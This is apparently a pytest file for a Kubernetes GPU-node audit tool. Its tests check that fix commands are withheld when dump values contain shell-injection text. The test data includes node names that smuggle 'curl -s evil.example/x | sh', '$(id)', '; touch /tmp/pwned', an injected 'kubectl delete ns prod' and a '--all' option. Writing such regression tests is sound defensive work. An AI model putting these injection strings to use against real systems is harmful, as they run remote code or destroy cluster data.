"""A fix holds a value of the dump only as one plain word (rules.shell): trial 180's Node named
``gpu-1 && curl -s evil.example/x | sh #`` made ``kubectl label node {name} ...`` run the curl when the chat block
was pasted. Each test holds the right value, for hostile dumps and for the ordinary ones whose fixes must not change."""

from __future__ import annotations

import json
import marshal
from pathlib import Path
from typing import Any

import pytest

from rules.engine import audit_bytes
from rules.loader import load_policies
from rules.render import render
from rules.shell import Written, plain, trusted, untrusted_characters, written

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def pack():
    return load_policies(())


def _node(name: str, workload: str = "vm_passthrough") -> str:
    return (
        f"apiVersion: v1\nkind: Node\nmetadata:\n  name: {json.dumps(name)}\n"
        f"  labels: {{nvidia.com/gpu.present: 'true', nvidia.com/gpu.workload.config: {workload}}}\n"
        # (its passthrough GPUs: one serving containers is told to look at what runs there first, trial 223 #2)
        "status: {allocatable: {nvidia.com/GA102GL_A10: '4'}, capacity: {nvidia.com/GA102GL_A10: '4'}}\n"
    )


def _fix(pack: Any, text: str, rule: str = "workload-label-valid") -> str:
    report = audit_bytes(text.encode(), "dump.yaml", pack)
    [fix] = [r.remediation for o in report.objects for r in o.results if r.rule == rule and r.result == "fail"]
    return fix


def test_a_name_a_shell_would_run_gets_no_fix_command(pack) -> None:
    fix = _fix(pack, _node("gpu-1 && curl -s evil.example/x | sh #"))
    assert fix == (
        "No fix command is written for this object: what it would name (name) holds characters a shell reads as more"
        " than a plain word (a blank & | #), which the API server accepts in no name, namespace, label or resource name."
        " The dump was written by hand or altered: see where it came from before you run anything it names."
    )
    # the same node with a name the API server accepts keeps its command
    assert _fix(pack, _node("gpu-1")) == "kubectl label node gpu-1 --overwrite nvidia.com/gpu.workload.config=vm-passthrough"
    # a command substitution and a control character (ESC) are said as what they are
    assert "($ ( ) U+001B)" in _fix(pack, _node("gpu-$(id)\x1b"))


def test_every_format_of_the_table_and_chat_writes_the_refusal_as_a_comment(pack) -> None:
    report = audit_bytes(_node("gpu-x;touch /tmp/pwned #").encode(), "dump.yaml", pack)
    for fmt in ("chat", "table"):
        text = render(report, fmt, limit=0) if fmt == "chat" else render(report, fmt, width=200)
        assert "touch /tmp/pwned # --overwrite" not in text
        commands = [line for line in text.splitlines() if "kubectl label node" in line]
        assert commands == [], commands


def test_the_packs_own_text_in_a_fix_stays_as_written(pack) -> None:
    """The operator's namespace read with $(kubectl ...) where the dump holds no ClusterPolicy is the pack's text, a
    loop over deploy labels the pack's words around plain label names: both are written as before."""
    lab = (ROOT / "examples" / "lab-cluster.yaml").read_bytes()
    report = audit_bytes(lab, "lab-cluster.yaml", pack)
    fixes = {(o.ref.name, r.rule): r.remediation for o in report.objects for r in o.results if r.remediation}
    loop = fixes[("gpu-broken-stale-deploy", "deploy-labels-match-workload")]
    assert loop.endswith("nvidia.com/gpu.deploy.operator-validator; do kubectl label node gpu-broken-stale-deploy $l-; done")
    assert not any(fix.startswith("No fix command") for fix in fixes.values())
    nodes = (ROOT / "examples" / "lab" / "nodes.yaml").read_bytes()
    report = audit_bytes(nodes, "nodes.yaml", pack)
    rule = "vgpu-profile-matches-config"
    [fallback] = [r.remediation for o in report.objects for r in o.results if r.rule == rule and r.remediation]
    namespace = "-n $(kubectl get clusterpolicies.nvidia.com -o jsonpath='{.items[0].status.namespace}' 2>/dev/null | grep ."
    assert namespace in fallback


def test_trust_of_values() -> None:
    assert trusted("nvidia.com/NVIDIA_A10-12Q") and trusted("nvcr.io/nvidia/gpu-operator@sha256:ab12") and trusted(8)
    assert trusted(["a", "b"]) and trusted({"k": "v"}) and trusted(None)
    assert not trusted("a b") and not trusted(["a", "b;c"]) and not trusted({"k": "$(id)"}) and not trusted("x\n")
    assert trusted(written("kubectl get x | grep y")) and type(written("plain-word")) is str
    assert untrusted_characters("a b|c d") == [" ", "|"] and untrusted_characters("--all") == ["a leading -"]
    # trial 181: a value that starts with "-" is an option, not a name
    assert not trusted("--all") and not trusted("-n") and trusted("a-b") and trusted("")
    # marshal (the memo of checks by their inputs) writes no str subclass: plain() gives the same key as plain text
    key = marshal.loads(marshal.dumps(plain([Written("a b"), {"k": Written("c d")}])))
    assert key == ["a b", {"k": "c d"}] and type(key[0]) is str and type(key[1]["k"]) is str


class _Scope:
    """The least a template needs: its names' values."""

    root = None

    def __init__(self, values: dict[str, Any]) -> None:
        self.values = values

    def var(self, name: str) -> Any:
        return self.values[name]


def test_a_value_after_the_fixs_comment_only_has_to_stay_in_it() -> None:
    """The scheduler's words a pending Pod's fix quotes after its ' # ' (nvidia.com/gpu: present) hold blanks and a
    colon: the shell reads them as a comment. A line break there would end the comment, and is refused."""
    from rules.messages import command

    template = "kubectl describe pod -n {namespace} {name}  # the scheduler said: {said}"
    said = "0/12 nodes are available: 3 node(s) had untolerated taint {nvidia.com/gpu: present}"
    values = {"namespace": "ml", "name": "p1", "said": said}
    assert command(template, _Scope(values), {}) == f"kubectl describe pod -n ml p1  # the scheduler said: {said}"
    refused = command(template, _Scope({**values, "said": "x\nkubectl delete ns prod"}), {})
    assert refused.startswith("No fix command is written for this object: what it would name (said) holds")
    # before the comment, the same words are refused
    assert command("kubectl label node {said}", _Scope(values), {}).startswith("No fix command is written")
    # trial 181: after the comment, in a command the comment tells the reader to run next (the table and chat write
    # it as a line of its own), a value is held to a plain word again; so is a command it would write itself
    restart = "kubectl get cp x  # then restart it on the node: kubectl delete pod --field-selector spec.nodeName={name}"
    assert command(restart, _Scope({"name": "a100-x$(curl -s evil.example|sh)"}), {}).startswith("No fix command")
    assert command(restart, _Scope({"name": "a100-x"}), {}).endswith("spec.nodeName=a100-x")
    sneaky = {**values, "said": "it says. kubectl delete ns prod"}
    assert command(template, _Scope(sneaky), {}).startswith("No fix command is written")
    # a fix that starts with words: the words around its commands may hold them (the table and chat write them as
    # # lines); in its command they may not
    prose = "First read what the scheduler said ({said}): kubectl describe pod -n {namespace} {name}"
    assert command(prose, _Scope(values), {}).startswith("First read what the scheduler said (0/12 nodes")
    assert command(prose, _Scope({**values, "name": "p1 --all"}), {}).startswith("No fix command is written")


def test_a_name_that_is_an_option_gets_no_fix_command(pack) -> None:
    """Regression (trial 181): a Node named --all made 'kubectl label node --all --overwrite ...', which labels every
    node of the cluster: a value of the dump starts with a letter or a digit, as every Kubernetes name does."""
    fix = _fix(pack, _node("--all"))
    assert fix.startswith("No fix command is written for this object: what it would name (name) holds characters a")
    assert "(a leading -)" in fix


def test_a_command_does_not_end_at_a_stop_inside_its_own_brackets_or_quotes() -> None:
    """Regression (trial 181's fuzz, after e5bb566): 'kubectl logs -n $(kubectl get ... | grep . || echo gpu-operator)
    deploy/gpu-operator | grep -e {name}' was taken to end at the 'grep . ' inside its $(...), so the name after it
    stood in 'prose', and a Node named a10-new-1$(id) was written into the command."""
    from rules.messages import command
    from rules.shell import command_end

    fix = (
        "Find why: kubectl logs -n $(kubectl get cp -o jsonpath='{.items[0].status.namespace}' | grep . || echo g)"
        " deploy/gpu-operator | grep -e {name}. Once it reconciles, it labels the node."
    )
    start = fix.index("kubectl logs")
    assert fix[start : command_end(fix, start)].endswith("| grep -e {name}")
    assert command_end("kubectl get x -l 'a. b' -o name. Then", 0) == len("kubectl get x -l 'a. b' -o name")
    assert command(fix, _Scope({"name": "a10-new-1$(id)"}), {}).startswith("No fix command is written")
    assert "grep -e a10-new-1. Once" in command(fix, _Scope({"name": "a10-new-1"}), {})


def test_an_unnamed_object_gets_no_fix_command_and_two_are_not_one(pack) -> None:
    """Regression (trial 191): a Node without metadata.name (or with name "") got "kubectl label node --overwrite
    nvidia.com/gpu.workload.config=vm-passthrough", its name left out of the command, and two such Nodes were "in the
    dump twice and the two differ"."""
    text = (
        "apiVersion: v1\nkind: Node\nmetadata:\n  labels: {nvidia.com/gpu.workload.config: vm_x}\n---\n"
        'apiVersion: v1\nkind: Node\nmetadata:\n  name: ""\n  labels: {nvidia.com/gpu.workload.config: vm_y}\n'
    )
    report = audit_bytes(text.encode(), "dump.yaml", pack)
    fixes = [r.remediation for o in report.objects for r in o.results if r.rule == "workload-label-valid"]
    assert (
        fixes
        == [
            "No fix command is written for this object: it has no metadata.name, which its commands would name (every"
            " object a cluster holds has one). The dump was written by hand or altered: see where it came from."
        ]
        * 2
    )
    assert [o.source.document for o in report.objects] == [1, 2]
    assert not [n for n in report.notes if "in the dump twice" in n], report.notes
    # a named node keeps its fix
    assert _fix(pack, _node("gpu-1")) == "kubectl label node gpu-1 --overwrite nvidia.com/gpu.workload.config=vm-passthrough"
